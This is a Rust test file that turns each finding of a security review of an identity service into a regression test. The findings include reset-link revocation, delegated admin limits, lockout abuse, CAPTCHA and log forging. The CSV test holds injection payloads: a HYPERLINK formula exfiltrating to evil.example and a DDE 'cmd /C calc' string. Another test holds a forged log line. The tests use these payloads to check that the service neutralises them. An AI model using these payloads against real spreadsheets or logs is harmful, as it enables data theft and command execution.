//! The findings of the outside security review (issue 12), each as a test that failed on the
//! code the review attacked.

use crate::helpers::*;
use passerelle::accounts::lifecycle;
use reqwest::Method;
use serde_json::json;

const NEW_PASSWORD: &str = "Trompette-Bleue-27";

/// Finding 1: a reset link mailed before a password change cannot set a password after it.
#[tokio::test]
async fn a_reset_link_dies_when_the_password_changes_another_way() {
    let app = TestApp::spawn().await;
    lifecycle::send_reset(&app.state, CLAIRE).await.unwrap();
    let link = link_in(&app.mails_to(CLAIRE).pop().unwrap(), &app.issuer);
    assert!(link.starts_with("/reinitialisation?jeton="), "{link}");

    // Whoever holds the link opens its form while it is still good…
    let stranger = reqwest::Client::builder()
        .cookie_store(true)
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let form = stranger.get(app.url(&link)).send().await.unwrap();
    assert_eq!(form.status(), 200);
    let mut fields = hidden_fields(&form.text().await.unwrap());

    // …then Claire changes her password through /compte.
    let browser = browser();
    app.login(&browser, &app.authorize_url(&[]), CLAIRE, PASSWORD)
        .await;
    let change = [
        ("current", PASSWORD),
        ("password", NEW_PASSWORD),
        ("confirmation", NEW_PASSWORD),
    ];
    let changed = app
        .fill(
            &browser,
            "/compte/mot-de-passe",
            "/compte/mot-de-passe",
            &change,
        )
        .await;
    assert_eq!(changed.status(), 200);
    assert!(
        changed
            .text()
            .await
            .unwrap()
            .contains("Votre mot de passe est changé")
    );

    // The open form no longer sets a password, and the link no longer opens.
    fields.push(("password".into(), "Autre-Chose-Encore-41".into()));
    fields.push(("confirmation".into(), "Autre-Chose-Encore-41".into()));
    let action = link.split('?').next().unwrap();
    let forced = stranger
        .post(app.url(action))
        .form(&fields)
        .send()
        .await
        .unwrap();
    assert_eq!(forced.status(), 400);
    assert!(
        forced
            .text()
            .await
            .unwrap()
            .contains("le mot de passe a changé")
    );
    let page = stranger.get(app.url(&link)).send().await.unwrap();
    assert_eq!(page.status(), 400);
    app.assert_logs_in(CLAIRE, NEW_PASSWORD).await;

    // The same holds for an activation link when a temporary password replaces it.
    let claire = app.account(CLAIRE).await;
    let activation = lifecycle::new_link(
        &app.state,
        &claire,
        passerelle::store::LinkPurpose::Activation,
        3600,
    )
    .await
    .unwrap();
    app.state
        .stores
        .accounts
        .set_temporary_password(
            &claire.id,
            "$argon2id$v=19$m=256,t=1,p=1$c2FsdHNhbHQ$aGFzaA",
            i64::MAX,
        )
        .await
        .unwrap();
    let stale = stranger
        .get(app.url(&format!("/activation?jeton={activation}")))
        .send()
        .await
        .unwrap();
    assert_eq!(stale.status(), 400);
}

const NIORT_PRINCIPAL: &str = "marc.rousseau@niort.example";
const NIORT_MANAGER: &str = "thomas.petit@niort.example";

/// Finding 2: a delegated manager cannot correct the principal administrator, nor a person
/// holding rights outside the delegation, nor touch another partner's people through a group.
#[tokio::test]
async fn a_delegated_manager_edits_no_one_outside_the_delegation() {
    let app = TestApp::spawn().await;
    let token = app.api_token(NIORT_MANAGER).await;
    let principal = app.account(NIORT_PRINCIPAL).await;
    let body = json!({ "given_name": "Pirate", "family_name": "Pirate" });
    for target in [&principal.id, &app.account(SOPHIE).await.id] {
        let (status, problem) = app
            .api(
                Method::PATCH,
                &format!("/api/v1/accounts/{target}"),
                &token,
                Some(body.clone()),
            )
            .await;
        assert_eq!(status, 403, "{problem}");
    }
    assert_eq!(
        app.account(NIORT_PRINCIPAL).await.profile.family_name,
        "Rousseau"
    );
    assert_eq!(app.account(SOPHIE).await.profile.family_name, "Lambert");

    // The principal administrator removes another partner's person from his own group: that
    // person is not found, and keeps her sessions.
    let admin = app.api_token(NIORT_PRINCIPAL).await;
    let groups = app
        .state
        .stores
        .habilitations
        .groups_of_partner(&passerelle::types::PartnerId::parse("ville-de-niort").unwrap())
        .await
        .unwrap();
    let claire_browser = browser();
    app.tokens(&claire_browser).await;
    let claire = app.account(CLAIRE).await;
    let path = format!("/api/v1/groups/{}/members/{}", groups[0].id, claire.id);
    let (status, problem) = app.api(Method::DELETE, &path, &admin, None).await;
    assert_eq!(status, 404, "{problem}");
    let sessions = app
        .state
        .stores
        .sessions
        .sessions_of_account(&claire.id)
        .await
        .unwrap();
    assert_eq!(sessions.len(), 1, "Claire's session was not ended");
}

/// Finding 8: PATCH changes only what it is given (RFC 7396); `null` clears an optional field.
#[tokio::test]
async fn patching_a_person_keeps_the_fields_left_out() {
    let app = TestApp::spawn().await;
    let token = app.api_token(NIORT_PRINCIPAL).await;
    let sophie = app.account(SOPHIE).await.id;
    let path = format!("/api/v1/accounts/{sophie}");
    let (status, view) = app
        .api(
            Method::PATCH,
            &path,
            &token,
            Some(json!({ "family_name": "Lambert-Roy" })),
        )
        .await;
    assert_eq!(status, 200, "{view}");
    let profile = app.account(SOPHIE).await.profile;
    assert_eq!(profile.family_name, "Lambert-Roy");
    assert_eq!(profile.given_name, "Sophie");
    assert_eq!(profile.civility.as_deref(), Some("Mme"));
    assert_eq!(
        profile.function.as_deref(),
        Some("Assistante de service social")
    );

    let (status, _) = app
        .api(
            Method::PATCH,
            &path,
            &token,
            Some(json!({ "function": null })),
        )
        .await;
    assert_eq!(status, 200);
    let profile = app.account(SOPHIE).await.profile;
    assert_eq!(profile.function, None);
    assert_eq!(profile.civility.as_deref(), Some("Mme"));

    let (status, problem) = app
        .api(
            Method::PATCH,
            &path,
            &token,
            Some(json!({ "given_name": null })),
        )
        .await;
    assert_eq!(status, 422, "{problem}");
    assert!(problem["detail"].as_str().unwrap().contains("prénom"));
    assert_eq!(app.account(SOPHIE).await.profile.given_name, "Sophie");
}

/// Finding 9: creating a person whose address belongs to another partner's account does not
/// reveal that account; the Caf's habilitation officers are told where it is.
#[tokio::test]
async fn an_address_used_elsewhere_is_not_revealed_and_the_caf_is_told() {
    let app = TestApp::spawn().await;
    let token = app.api_token(NIORT_PRINCIPAL).await;
    let (status, problem) = app
        .api(
            Method::POST,
            "/api/v1/partners/ville-de-niort/accounts",
            &token,
            Some(json!({ "email": CLAIRE, "given_name": "Claire", "family_name": "Dubois" })),
        )
        .await;
    assert_eq!(status, 409, "{problem}");
    let detail = problem["detail"].as_str().unwrap();
    assert!(detail.contains("ne peut pas être retenue"), "{detail}");
    for revealing in ["autre compte", "déjà utilisée", "Roumois", "existe"] {
        assert!(!detail.contains(revealing), "{detail}");
    }
    // The partner's own person is said plainly: she is in the administrator's reach.
    let (status, own) = app
        .api(
            Method::POST,
            "/api/v1/partners/ville-de-niort/accounts",
            &token,
            Some(json!({ "email": SOPHIE, "given_name": "Sophie", "family_name": "Lambert" })),
        )
        .await;
    assert_eq!(status, 409);
    assert!(
        own["detail"]
            .as_str()
            .unwrap()
            .contains("déjà un compte chez ce partenaire")
    );

    let told: Vec<_> = app
        .mails_to("habilitations@caf79.example")
        .into_iter()
        .filter(|m| m.subject.starts_with("Création de compte refusée"))
        .collect();
    assert_eq!(told.len(), 1, "the Caf's habilitation officer is told once");
    assert!(
        told[0].text.contains(CLAIRE) && told[0].text.contains("Roumois"),
        "{}",
        told[0].text
    );
    assert!(told[0].text.contains("Marc Rousseau"), "{}", told[0].text);
    assert!(app.mails_to(CLAIRE).is_empty(), "Claire receives nothing");
}

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"x\")";

/// The cells of a `;` CSV text (the csv crate reads quoted cells back whole).
fn csv_cells(text: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .flexible(true)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

/// Finding 3: what comes from outside (a user agent, a relying application's target and
/// reason, a person's name) never reaches a spreadsheet as a live formula.
#[tokio::test]
async fn csv_exports_neutralise_formulas() {
    let app = TestApp::spawn().await;
    let attacker = reqwest::Client::builder()
        .cookie_store(true)
        .user_agent(FORMULA)
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    app.login(&attacker, &app.authorize_url(&[]), CLAIRE, "wrong-password")
        .await;
    app.own_trace(|t| t.user_agent.as_deref() == Some(FORMULA))
        .await;
    let token = crate::traces::rp_token(&app).await;
    let sub = app.account(CLAIRE).await.id.to_string();
    let events = json!([{ "id": "evt-formula", "sub": sub, "action": "dossier.consultation",
                          "target": "+cmd|' /C calc'!A0", "reason": "@SUM(1+1)*cmd" }]);
    let (status, body) = crate::traces::submit(&app, &token, events).await;
    assert_eq!(status, 200, "{body}");

    let national = app.api_token("exploitation@cnaf.example").await;
    let export = app
        .api
        .get(app.url("/api/v1/traces/export?format=csv"))
        .bearer_auth(&national)
        .send()
        .await
        .unwrap();
    assert_eq!(export.status(), 200);
    let text = export.text().await.unwrap();
    let cells = csv_cells(&text);
    assert!(cells.iter().any(|c| c == &format!("'{FORMULA}")), "{text}");
    assert!(cells.iter().any(|c| c == "'+cmd|' /C calc'!A0"), "{text}");
    assert!(cells.iter().any(|c| c == "'@SUM(1+1)*cmd"), "{text}");
    let live: Vec<&String> = cells
        .iter()
        .filter(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']))
        .collect();
    assert!(live.is_empty(), "live formulas: {live:?}");
    // An administrative change's object also reads in words, beside its reference.
    assert!(
        cells.iter().any(|c| c == "attribution d'une habilitation"),
        "{text}"
    );

    // Annexe 1: a name that looks like a formula goes out as text and imports back as it was.
    let caf = app.api_token("habilitations@caf79.example").await;
    let sophie = app.account(SOPHIE).await.id;
    let (status, _) = app
        .api(
            Method::PATCH,
            &format!("/api/v1/accounts/{sophie}"),
            &caf,
            Some(json!({ "family_name": "=1+2" })),
        )
        .await;
    assert_eq!(status, 200);
    let annex = app
        .api
        .get(app.url("/api/v1/partners/ville-de-niort/annexe1?service=cdap&format=csv"))
        .bearer_auth(&caf)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let cells = csv_cells(&annex);
    assert!(cells.iter().any(|c| c == "'=1+2"), "{annex}");
    assert!(!cells.iter().any(|c| c.starts_with('=')), "{annex}");
}

/// Finding 12: a relying application cannot date its events in 1970 or in the future; the
/// time it gives is kept, beside the time Passerelle received the event.
#[tokio::test]
async fn trace_events_outside_the_time_window_are_refused_and_reception_is_kept() {
    let app = TestApp::spawn().await;
    let token = crate::traces::rp_token(&app).await;
    let sub = app.account(CLAIRE).await.id.to_string();
    let event = |id: &str, at: String| json!([{ "id": id, "sub": sub, "action": "dossier.consultation", "at": at }]);
    let now = chrono::Utc::now();
    for (id, at) in [
        ("old", "1970-01-01T00:00:00Z".to_owned()),
        ("future", (now + chrono::Duration::days(1)).to_rfc3339()),
        ("too-old", (now - chrono::Duration::days(8)).to_rfc3339()),
    ] {
        let (status, problem) = crate::traces::submit(&app, &token, event(id, at)).await;
        assert_eq!(status, 400, "{id}: {problem}");
        assert!(
            problem["detail"].as_str().unwrap().contains("events[0].at"),
            "{problem}"
        );
    }
    let an_hour_ago = now - chrono::Duration::hours(1);
    let (status, body) =
        crate::traces::submit(&app, &token, event("late", an_hour_ago.to_rfc3339())).await;
    assert_eq!(status, 200, "{body}");

    let national = app.api_token("exploitation@cnaf.example").await;
    let export =
        app.api
            .get(app.url(
                "/api/v1/traces/export?format=jsonl&service=demo-app&action=dossier.consultation",
            ))
            .bearer_auth(&national)
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
    let lines: Vec<serde_json::Value> = export
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(
        lines.len(),
        1,
        "only the acceptable event is stored: {export}"
    );
    let at = chrono::DateTime::parse_from_rfc3339(lines[0]["at"].as_str().unwrap()).unwrap();
    let received =
        chrono::DateTime::parse_from_rfc3339(lines[0]["received_at"].as_str().unwrap()).unwrap();
    assert_eq!(
        at.timestamp(),
        an_hour_ago.timestamp(),
        "the given time is kept"
    );
    assert!(
        received - at >= chrono::Duration::minutes(59),
        "{at} {received}"
    );
}

/// Introspects `token` as `client` (client_secret_post).
async fn introspect_as(
    app: &TestApp,
    client: &str,
    secret: &str,
    token: &str,
) -> serde_json::Value {
    app.api
        .post(app.url("/introspect"))
        .form(&[
            ("token", token),
            ("client_id", client),
            ("client_secret", secret),
        ])
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap()
}

/// Finding 7: a client learns nothing of another client's tokens through introspection,
/// unless it is registered as the resource server of that client.
#[tokio::test]
async fn introspection_answers_only_the_token_owner_or_its_resource_server() {
    let app = TestApp::spawn().await;
    let tokens = app.tokens(&browser()).await;
    let access = tokens["access_token"].as_str().unwrap();
    let refresh = tokens["refresh_token"].as_str().unwrap();
    assert_eq!(
        introspect_as(&app, DEMO_ID, DEMO_SECRET, access).await["active"],
        true
    );
    for token in [access, refresh] {
        let seen = introspect_as(&app, "test-odd-secret", ODD_SECRET, token).await;
        assert_eq!(
            seen,
            json!({ "active": false }),
            "another client sees nothing"
        );
    }

    let resource_server = r#"
[[service]]
client_id = "demo-api"
name = "API de la démonstration"
type = "confidential"
secret = "demo-api-secret-0123456789-0123456789-abcdef"
grant_types = ["client_credentials"]
introspects = ["demo-app"]
"#;
    let file = passerelle::provision::parse(resource_server, "test").unwrap();
    passerelle::provision::apply(&app.state, &file, false)
        .await
        .unwrap();
    let seen = introspect_as(
        &app,
        "demo-api",
        "demo-api-secret-0123456789-0123456789-abcdef",
        access,
    )
    .await;
    assert_eq!(seen["active"], true, "{seen}");
    assert_eq!(seen["client_id"], DEMO_ID);
}

/// Finding 5: metrics are on the management listener only, and no counter tells an unknown
/// identifier from a wrong password.
#[tokio::test]
async fn metrics_are_private_and_tell_no_account_apart() {
    let app = TestApp::spawn().await;
    let public = app.api.get(app.url("/metrics")).send().await.unwrap();
    assert_eq!(public.status(), 404, "no metrics on the public listener");
    app.login_fresh(CLAIRE, "wrong-password").await;
    app.login_fresh("personne@nulle-part.example", "wrong-password")
        .await;
    let metrics = app
        .api
        .get(format!("{}/metrics", app.management))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let failures: Vec<&str> = metrics
        .lines()
        .filter(|l| l.starts_with("passerelle_logins_total{outcome=\"failure\""))
        .collect();
    assert_eq!(
        failures,
        ["passerelle_logins_total{outcome=\"failure\",reason=\"credentials\"} 2"],
        "{metrics}"
    );
    for code in ["unknown_account", "wrong_password", "no_password"] {
        assert!(!metrics.contains(code), "{code} in {metrics}");
    }
    let health = app
        .api
        .get(format!("{}/readyz", app.management))
        .send()
        .await
        .unwrap();
    assert_eq!(health.status(), 200);
}

/// The nonce the page's script would find for a CAPTCHA whose page is `html`.
fn solve_work(html: &str) -> String {
    nonce_where(&[(html, true)])
}

/// The first nonce that does (true) or does not (false) prove the work of each page's
/// challenge: a wrong answer is checked wrong, not hoped so (12 bits: 1 in 4096 is right).
fn nonce_where(pages: &[(&str, bool)]) -> String {
    let challenge = |html: &str| {
        let attribute = |name: &str| {
            let marker = format!("{name}=\"");
            let start = html.find(&marker).expect(name) + marker.len();
            html[start..start + html[start..].find('"').unwrap()].to_owned()
        };
        let bits: u8 = attribute("data-work-bits").parse().unwrap();
        (attribute("data-work-salt"), bits)
    };
    let wanted: Vec<_> = pages
        .iter()
        .map(|(h, done)| (challenge(h), *done))
        .collect();
    (0u64..)
        .map(|n| n.to_string())
        .find(|n| {
            wanted.iter().all(|((salt, bits), done)| {
                passerelle::web::captcha::work_is_done(salt, n, *bits) == *done
            })
        })
        .unwrap()
}

/// Finding 4: the CAPTCHA has no text a script could parse; its accessible way is a proof of
/// work the page computes, accepted once, for its own challenge only.
#[tokio::test]
async fn the_captcha_asks_for_work_not_for_a_parsable_answer() {
    let app = TestApp::spawn().await;
    let open = |browser: reqwest::Client| {
        let url = app.url("/mot-de-passe-oublie");
        async move {
            let html = browser.get(url).send().await.unwrap().text().await.unwrap();
            (browser, html)
        }
    };
    let post = |browser: &reqwest::Client, html: &str, work: &str| {
        let form = [
            ("csrf", hidden(html, "csrf").unwrap()),
            ("email", CLAIRE.to_owned()),
            ("captcha_id", hidden(html, "captcha_id").unwrap()),
            ("captcha_work", work.to_owned()),
        ];
        browser
            .post(app.url("/mot-de-passe-oublie"))
            .form(&form)
            .send()
    };
    let (browser, html) = open(browser()).await;
    for parsable in ["Combien", "plus", "chiffres"] {
        assert!(!html.contains(parsable), "{parsable} in {html}");
    }
    assert!(html.contains("<script src=\"/static/captcha.js\""));
    let script = app
        .api
        .get(app.url("/static/captcha.js"))
        .send()
        .await
        .unwrap();
    assert!(
        script.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/javascript")
    );

    // A wrong nonce fails (and spends the challenge); the right one for another challenge too.
    let refused = post(&browser, &html, &nonce_where(&[(&html, false)]))
        .await
        .unwrap();
    assert_eq!(refused.status(), 400);
    let (browser, first) = open(browser).await;
    let (_, second) = open(crate::helpers::browser()).await;
    let borrowed = post(
        &browser,
        &first,
        &nonce_where(&[(&second, true), (&first, false)]),
    )
    .await
    .unwrap();
    assert_eq!(
        borrowed.status(),
        400,
        "a nonce only proves work for its own challenge"
    );

    let (browser, page) = open(browser).await;
    let nonce = solve_work(&page);
    let accepted = post(&browser, &page, &nonce).await.unwrap();
    assert_eq!(accepted.status(), 200);
    assert!(
        accepted
            .text()
            .await
            .unwrap()
            .contains("Si un compte existe")
    );
    let replayed = post(&browser, &page, &nonce).await.unwrap();
    assert_eq!(replayed.status(), 400, "a challenge is spent once");
}

/// Posts a login for `email` from `browser`, as if from `ip` (behind a trusted proxy).
async fn login_from(
    app: &TestApp,
    browser: &reqwest::Client,
    ip: &str,
    email: &str,
    password: &str,
) -> reqwest::Response {
    // prompt=login: a browser with a session is asked for the password again.
    let start = browser
        .get(app.authorize_url(&[("prompt", "login")]))
        .send()
        .await
        .unwrap();
    app.submit_login_from(browser, &location(&start), email, password, Some(ip))
        .await
}

/// Finding 6: a stranger who locks Claire's identifier from rotating addresses does not lock
/// Claire out of the browser she logs in from; that browser has limits of its own.
#[tokio::test]
async fn a_stranger_cannot_lock_the_owner_out_of_her_own_browser() {
    let app = TestApp::spawn_with(|c| c.server.trusted_proxies = vec!["127.0.0.1".into()]).await;
    let claire = browser();
    let first = login_from(&app, &claire, "192.0.2.1", CLAIRE, PASSWORD).await;
    assert!(redirect_params(&first, DEMO_REDIRECT).contains_key("code"));
    let cookies = first
        .headers()
        .get_all("set-cookie")
        .iter()
        .map(|v| v.to_str().unwrap().to_owned())
        .collect::<Vec<_>>();
    let device = cookies
        .iter()
        .find(|c| c.starts_with("passerelle_device="))
        .expect("a device cookie");
    assert!(
        device.contains("HttpOnly") && device.contains("Max-Age="),
        "{device}"
    );
    assert!(
        !device.contains("roumois"),
        "the identifier is not in the cookie: {device}"
    );

    // Ten failures from ten addresses lock the identifier for every other browser.
    for i in 0..10 {
        let stranger = browser();
        login_from(
            &app,
            &stranger,
            &format!("198.51.100.{i}"),
            CLAIRE,
            "devinette",
        )
        .await;
    }
    let elsewhere = login_from(&app, &browser(), "203.0.113.9", CLAIRE, PASSWORD).await;
    assert_eq!(
        elsewhere.status(),
        429,
        "the identifier is locked for unknown browsers"
    );

    // Claire's own browser still logs in, with its own counters.
    let again = login_from(&app, &claire, "192.0.2.1", CLAIRE, PASSWORD).await;
    assert!(
        redirect_params(&again, DEMO_REDIRECT).contains_key("code"),
        "status {}",
        again.status()
    );
    // A device cookie made for another identifier does not open Claire's lock.
    let sophie = browser();
    let hers = login_from(&app, &sophie, "192.0.2.2", SOPHIE, PASSWORD).await;
    assert!(redirect_params(&hers, DEMO_REDIRECT).contains_key("code"));
    let borrowed = login_from(&app, &sophie, "192.0.2.2", CLAIRE, PASSWORD).await;
    assert_eq!(borrowed.status(), 429);

    // The CNIL limits hold for Claire's browser too: ten failures lock it.
    let mut last = 0;
    for _ in 0..10 {
        last = login_from(&app, &claire, "192.0.2.1", CLAIRE, "erreur-de-frappe")
            .await
            .status()
            .as_u16();
    }
    assert_eq!(last, 429);
    let locked = login_from(&app, &claire, "192.0.2.1", CLAIRE, PASSWORD).await;
    assert_eq!(locked.status(), 429);
}

/// Finding 10: control characters in request parameters cannot forge lines in the text log.
#[tokio::test]
async fn request_parameters_cannot_forge_log_lines() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("stdout");
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_passerelle"))
        .args(["demo", "--listen", "127.0.0.1:0", "--data-dir"])
        .arg(dir.path())
        .current_dir(dir.path())
        .env("RUST_LOG", "info")
        .stdout(std::fs::File::create(&log).unwrap())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let read = || std::fs::read_to_string(&log).unwrap_or_default();
    let mut issuer = None;
    for _ in 0..600 {
        issuer = read().lines().find_map(|l| {
            l.trim()
                .strip_prefix("issuer:")
                .map(|i| i.trim().to_owned())
        });
        if issuer.is_some() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let issuer = issuer.expect("the demo starts");
    let forged = "x\n2026-12-01T00:00:00.000000Z  INFO password accepted account=admin\r\u{1b}[2K";
    let mut url = url::Url::parse(&format!("{issuer}/authorize")).unwrap();
    url.query_pairs_mut()
        .append_pair("client_id", DEMO_ID)
        .append_pair("redirect_uri", DEMO_REDIRECT)
        .append_pair("response_type", forged);
    install_tls_provider();
    let answer = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
        .get(url)
        .send()
        .await
        .unwrap();
    assert_eq!(answer.status(), 303, "refused back to the client");
    let mut text = String::new();
    for _ in 0..200 {
        text = read();
        if text.contains("authorization request refused") {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    child.kill().unwrap();
    child.wait().unwrap();
    let refused: Vec<&str> = text
        .lines()
        .filter(|l| l.contains("authorization request refused"))
        .collect();
    assert_eq!(refused.len(), 1, "{text}");
    assert!(
        refused[0].contains("x\\n2026-12-01T00:00:00.000000Z  INFO password accepted"),
        "{}",
        refused[0]
    );
    assert!(
        !text.lines().any(|l| l.starts_with("2026-12-01T00:00:00")),
        "{text}"
    );
    assert!(!text.contains('\r') && !text.contains('\u{1b}'), "{text:?}");
}

/// Sends a GET carrying a 200 KB body on a raw connection, reads the answer only once the
/// server is done with it (as a slow client would), and returns what arrived.
async fn get_with_body(
    app: &TestApp,
    path: &str,
    token: &str,
    body: usize,
) -> std::io::Result<Vec<u8>> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let address = app.address.trim_start_matches("http://");
    let mut stream = tokio::net::TcpStream::connect(address).await?;
    let head = format!(
        "GET {path} HTTP/1.1\r\nHost: {address}\r\nAuthorization: Bearer {token}\r\nContent-Type: application/octet-stream\r\nContent-Length: {body}\r\nConnection: close\r\n\r\n"
    );
    stream.write_all(head.as_bytes()).await?;
    // The body may not all be taken: a server that refuses it stops reading.
    let _ = stream.write_all(&vec![b'x'; body]).await;
    // Leave the server time to answer and close before reading anything.
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).await?;
    Ok(answer)
}

/// Finding 11: a GET that carries a body it should not (200 KB here) still receives its whole
/// answer, a large trace export, instead of a connection reset half way.
#[tokio::test]
async fn an_unexpected_request_body_does_not_cut_the_answer() {
    let app = TestApp::spawn().await;
    let token = crate::traces::rp_token(&app).await;
    let sub = app.account(CLAIRE).await.id.to_string();
    for batch in 0..3 {
        let events: Vec<serde_json::Value> = (0..1000)
            .map(|i| {
                json!({ "id": format!("e{batch}-{i}"), "sub": sub, "action": "dossier.consultation",
                        "target": format!("dossier:{i:07}") })
            })
            .collect();
        let (status, _) = crate::traces::submit(&app, &token, json!(events)).await;
        assert_eq!(status, 200);
    }
    let national = app.api_token("exploitation@cnaf.example").await;
    let path = "/api/v1/traces/export?format=csv&action=dossier.consultation";
    let answer = get_with_body(&app, path, &national, 200_000)
        .await
        .expect("the whole answer, not a connection reset");
    let text = String::from_utf8_lossy(&answer);
    assert!(
        text.starts_with("HTTP/1.1 200"),
        "{}",
        &text[..text.len().min(200)]
    );
    let (_, body) = text.split_once("\r\n\r\n").unwrap();
    assert_eq!(body.lines().count(), 3001, "a header and 3,000 traces");

    // Past what is drained (1 MiB), the answer is a refusal.
    let answer = get_with_body(&app, path, &national, 3 << 20)
        .await
        .unwrap_or_default();
    let text = String::from_utf8_lossy(&answer);
    assert!(
        !text.contains("200 OK"),
        "refused (413), never served: {}",
        &text[..text.len().min(200)]
    );
}
